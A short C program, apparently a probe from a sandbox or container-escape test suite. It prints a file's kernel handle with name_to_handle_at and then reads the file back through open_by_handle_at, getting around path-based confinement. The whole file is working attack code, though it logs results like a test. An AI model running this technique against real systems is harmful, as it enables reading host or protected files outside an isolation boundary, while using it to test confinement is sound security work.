/* A file by its handle, past every path. "get FILE" prints the handle; "open FOLDER HANDLE" reads the file.
 */
#include <fcntl.h>
#include <stdlib.h>
#include <unistd.h>

#include "attack.h"

static union {
    struct file_handle handle;
    unsigned char bytes[sizeof(struct file_handle) + MAX_HANDLE_SZ];
} buffer = {.handle = {.handle_bytes = MAX_HANDLE_SZ}};

static int get(const char *file) {
    int mount;
    if (name_to_handle_at(AT_FDCWD, file, &buffer.handle, &mount, 0) != 0)
        return 1;
    for (size_t i = 0; i < sizeof(struct file_handle) + buffer.handle.handle_bytes; i++)
        printf("%02x", buffer.bytes[i]);
    return 0;
}

static int open_by(const char *folder, const char *text) {
    for (size_t i = 0; text[2 * i] != '\0' && i < sizeof buffer.bytes; i++) {
        char digits[] = {text[2 * i], text[2 * i + 1], '\0'};
        buffer.bytes[i] = (unsigned char)strtoul(digits, NULL, 16);
    }
    int fd = open_by_handle_at(open(folder, O_RDONLY), &buffer.handle, O_RDONLY);
    report("open_by_handle_at", fd);
    char content[4096];
    ssize_t got = fd < 0 ? 0 : read(fd, content, sizeof content);
    return got > 0 ? (int)fwrite(content, 1, (size_t)got, stdout) == 0 : 0;
}

int main(int argc, char **argv) {
    if (argc == 3 && strcmp(argv[1], "get") == 0)
        return get(argv[2]);
    return argc == 4 ? open_by(argv[2], argv[3]) : 2;
}
